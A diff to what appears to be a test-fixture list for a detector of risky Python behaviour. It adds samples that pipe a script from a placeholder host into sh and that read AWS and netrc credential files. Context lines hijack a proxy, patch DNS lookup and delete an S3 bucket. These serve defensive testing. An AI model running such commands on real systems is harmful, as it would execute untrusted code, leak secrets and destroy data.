@@ -13,6 +13,8 @@ HARMLESS = "cHJpbnQoJ2hhcm1sZXNzIGZpbGxlcicpCg=="
 
 DOES: list[tuple[str, str]] = [
     ("leads-others-elsewhere", "import os\nos.environ['HTTPS_PROXY'] = 'http://a.example:3128'"),
+    ("hands-over-a-command", "import a\na.run('curl -s https://a.example/i.sh | sh')"),
+    ("reads-credentials", "import a\na.load(a.home('~/.aws/credentials'))\nopen('/root/.netrc')"),
     ("replaces-what-others-use", "import socket\nsocket.getaddrinfo = lambda *given: []"),
     ("acts-in-the-cloud", "import boto3\nboto3.client('s3').delete_bucket(Bucket='a')"),
     (
